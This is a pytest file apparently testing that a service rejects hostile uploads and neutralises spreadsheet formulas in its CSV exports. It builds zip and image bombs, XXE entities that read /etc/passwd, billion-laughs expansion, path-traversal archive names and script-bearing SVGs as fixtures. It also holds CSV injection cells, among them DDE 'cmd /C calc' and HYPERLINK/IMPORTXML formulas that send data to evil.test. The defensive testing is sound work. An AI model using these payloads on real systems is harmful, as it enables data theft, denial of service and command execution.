"""Files in and out: pictures that are programs, tables that are bombs, cells that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import struct
import time
import zipfile

import openpyxl
import pytest

from services.identity.audit_trail.commands import append
from services.identity.tests.people import fresh_email
from shared import clock
from shared.contracts.audit import AuditEntry
from shared.ids import new_id
from shared.pictures.jpeg import segment
from shared.pictures.png import SIGNATURE, chunk
from shared.spreadsheets.tabular import csv_lines
from shared.testing.databases import database_of
from shared.testing.pictures import jpeg, png

PNG = png(8, 8)
BOMB = SIGNATURE + chunk(b"IHDR", struct.pack(">II", 60_000, 60_000) + PNG[24:29]) + PNG[33:]
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<html><script>alert(1)</script></html>"


def workbook(sheet: bytes | None = None, **parts: bytes) -> bytes:
    """A workbook with one person to invite; its sheet and parts may be replaced."""
    book, plain, content = openpyxl.Workbook(), io.BytesIO(), io.BytesIO()
    for row in (["given_name", "family_name", "email", "levels"], ["Thea", "One", fresh_email(), "default"]):
        book.active.append(row)
    book.save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            replaced = sheet if name == "xl/worksheets/sheet1.xml" and sheet is not None else source.read(name)
            archive.writestr(name, replaced)
        for name, part in parts.items():
            archive.writestr(name, part)
    return content.getvalue()


def entity_sheet(entity: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE x [{entity}]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>'
    ).encode()


def many_cells() -> bytes:
    """Small in the file, large when read: every cell of every row says the same."""
    row = b'<row r="1">' + b'<c t="inlineStr"><is><t>x</t></is></c>' * 2_000 + b"</row>"
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    return head + row * 900 + b"</sheetData></worksheet>"


def nested() -> bytes:
    """A file of files of files, none of which is a sheet."""
    content = workbook()
    for copies in (20, 3):
        outer = io.BytesIO()
        with zipfile.ZipFile(outer, "w") as archive:
            for number in range(copies):
                archive.writestr(f"{number}.zip", content)
        content = outer.getvalue()
    return content


BILLION = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(4))
WORKBOOKS = {
    "A-FILE-zip-bomb": lambda: workbook(b" " * 60_000_000),
    "A-FILE-zip-bomb-many-parts": lambda: workbook(**{f"x{number}": b"" for number in range(600)}),
    "A-FILE-zip-bomb-nested": nested,
    "A-FILE-xlsx-bomb": lambda: workbook(many_cells()),
    "A-FILE-xxe-file": lambda: workbook(entity_sheet('<!ENTITY e SYSTEM "file:///etc/passwd">')),
    "A-FILE-xxe-network": lambda: workbook(entity_sheet('<!ENTITY e SYSTEM "http://127.0.0.1:9/">')),
    "A-FILE-entity-expansion": lambda: workbook(entity_sheet(f'<!ENTITY a "lol">{BILLION}')),
    "A-FILE-content-type-lie": lambda: b"\x7fELF\x02\x01\x01" + bytes(200),
}


@pytest.mark.abuse(*WORKBOOKS)
@pytest.mark.parametrize("name", WORKBOOKS)
def test_a_hostile_workbook_is_refused_soon_and_invites_nobody(practice, name):
    began = time.perf_counter()
    response = practice.owner.web.upload("POST", "/staff/import", WORKBOOKS[name]())
    assert response.status_code in (413, 422), response.text
    assert time.perf_counter() - began < 25
    assert "root:" not in response.text and "lollol" not in response.text
    assert [member["email"] for member in practice.owner.web.get("/staff").json["items"]] == [practice.owner.email]


@pytest.mark.abuse("A-FILE-path-name")
def test_a_part_with_a_path_for_a_name_is_written_nowhere(practice, tmp_path):
    aim = tmp_path / "escaped"
    parts = {f"{'../' * 12}{str(aim)[1:]}": b"x", str(aim): b"x", "..\\..\\escaped": b"x"}
    assert practice.owner.web.upload("POST", "/staff/import", workbook(**parts)).json["counts"] == {"invited": 1}
    assert not aim.exists()


LOGOS = {
    "A-FILE-svg-script": SVG,
    "A-FILE-html-as-picture": HTML,
    "A-FILE-picture-oversize": png(600, 500, noisy=True),
    "A-FILE-picture-bomb": BOMB,
    "A-FILE-picture-cut-short": PNG[:20],
    "A-FILE-picture-animated": png(8, 8, before=chunk(b"acTL", struct.pack(">II", 2, 0))),
    "A-FILE-polyglot": PNG + HTML,
}


@pytest.mark.abuse(*LOGOS)
@pytest.mark.parametrize("name", LOGOS)
def test_what_is_no_picture_is_no_logo(practice, name):
    refused = practice.owner.web.upload("PUT", "/organization/logo", LOGOS[name])
    assert refused.status_code in (413, 422), refused.text
    assert practice.owner.web.get("/organization/logo").status_code == 404


WORDS = b"GPS 40.7128 N 74.0060 W, J. Doe"
TALKATIVE = {
    "image/png": png(8, 8, before=chunk(b"tEXt", b"Comment\0" + WORDS) + chunk(b"eXIf", WORDS)),
    "image/jpeg": jpeg(8, 8, segment(0xE1, b"Exif\0\0" + WORDS) + segment(0xFE, WORDS)),
}


@pytest.mark.abuse("A-FILE-place-of-taking", "A-FILE-polyglot")
@pytest.mark.parametrize("media_type", TALKATIVE)
def test_where_a_picture_was_taken_is_not_published(practice, media_type):
    """Nor is it shown as anything else than a picture."""
    stored = practice.owner.web.upload("PUT", "/organization/logo", TALKATIVE[media_type])
    assert stored.status_code == 200, stored.text
    shown = practice.owner.web.get("/organization/logo")
    assert WORDS not in shown.data and len(shown.data) < len(TALKATIVE[media_type])
    assert shown.headers["Content-Type"] == media_type
    assert shown.headers["Content-Disposition"].startswith("attachment")


CELLS = {
    "A-CSV-formula": ["=1+1", "+1+1", "-1+1", "@SUM(A1)", " =1+1", "\ufeff=1+1"],
    "A-CSV-control": ["\t=1+1", "\r=1+1", "\n=1+1", "\t", "\r\n@x"],
    "A-CSV-full-width": ["＝1+1", "＋1", "－1", "＠SUM(A1)"],
    "A-CSV-program": ["=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', "@cmd|'/C calc'!A0"],
    "A-CSV-quote-break": ['","=1+1', '"\n=1+1', '","",=cmd()', 'a"b'],
    "A-CSV-exfiltration": ['=HYPERLINK("https://evil.test/?"&A1,"x")', '=IMPORTXML("https://evil.test","//a")'],
}
STARTS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.mark.abuse(*CELLS)
@pytest.mark.parametrize("name", CELLS)
def test_no_cell_is_a_formula_and_none_leaves_its_place(name):
    lines = csv_lines([["first", cell, "last"] for cell in CELLS[name]])
    rows = list(csv.reader(io.StringIO(lines.decode(), newline="")))
    assert [(row[0], row[2], len(row)) for row in rows] == [("first", "last", 3)] * len(CELLS[name])
    for row, cell in zip(rows, CELLS[name], strict=True):
        assert not row[1].lstrip(" \ufeff").startswith(STARTS), row
        assert row[1].removeprefix("'") == cell


@pytest.mark.abuse("A-CSV-audit-export")
def test_the_exported_trail_holds_no_formula(practice, database):
    """Whatever came to be in an entry."""
    hostile = [cell for cells in CELLS.values() for cell in cells]
    entries = [
        AuditEntry(id=new_id(), at=clock.now(), action="client.read", outcome="done", rule=cell, request_id=cell)
        for cell in hostile
    ]
    worker = database_of(database, "worker")
    worker.run(lambda session: append(session, practice.id, "clients", entries), practice.id)
    exported = practice.owner.web.get("/audit/export")
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert len(rows) >= len(hostile)
    for row in rows:
        assert len(row) == 15 and None not in row
        assert not [cell for cell in row.values() if cell.lstrip(" \ufeff").startswith(STARTS)], row


def test_a_day_has_twenty_logos(practice, later):
    """Each is kept for good: nobody fills the disk with them."""
    answers = [practice.owner.web.upload("PUT", "/organization/logo", PNG).status_code for _ in range(22)]
    assert answers == [200] * 20 + [429] * 2
    later(days=1, minutes=1)
    assert practice.owner.web.upload("PUT", "/organization/logo", PNG).status_code == 200
